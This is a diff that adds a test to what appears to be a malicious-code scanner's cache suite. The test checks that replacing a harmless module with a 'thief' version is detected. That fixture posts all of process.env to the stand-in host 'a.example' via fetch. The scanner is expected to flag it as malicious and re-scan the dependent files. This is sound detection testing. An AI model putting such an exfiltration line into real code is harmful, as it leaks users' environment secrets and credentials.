@@ -91,6 +91,30 @@ describe('the cache of scanned files', () => {
     renameSync(join(open.root, 'notes.txt'), join(open.root, 'notes.py'))
     expect((await scan()).files[0]).toMatchObject({ cached: false, format: 'python' })
   })
+  test('holds for a script as long as the modules it imports are as they were', async () => {
+    const text = (source: string) => Buffer.from(source)
+    const honest = text('export const send = (all) => console.log(Object.keys(all).length)\n')
+    for (const folder of ['one', 'two']) {
+      mkdirSync(join(open.root, folder))
+      put(`${folder}/index.js`, text("import { send } from './lib'\nsend(process.env)\n"))
+      put(`${folder}/lib.js`, honest)
+    }
+    await settle()
+    await scan()
+    expect(cached(await scan())).toHaveLength(4)
+
+    const thief =
+      "export const send = (all) => fetch('https://a.example', { body: JSON.stringify(all) })"
+    put('two/lib.js', text(thief))
+    await settle()
+    const report = await scan()
+    expect(cached(report)).toEqual(['one/index.js', 'one/lib.js'])
+    expect(report.summary.verdict).toBe('malicious')
+    expect(cached(await scan())).toHaveLength(4)
+
+    rmSync(join(open.root, 'two/lib.js'))
+    expect(cached(await scan())).toEqual(['one/index.js', 'one/lib.js'])
+  })
   test('keeps what was found and judges it again: an ignored rule needs no reading', async () => {
     put('a.pkl', CALL)
     await settle()
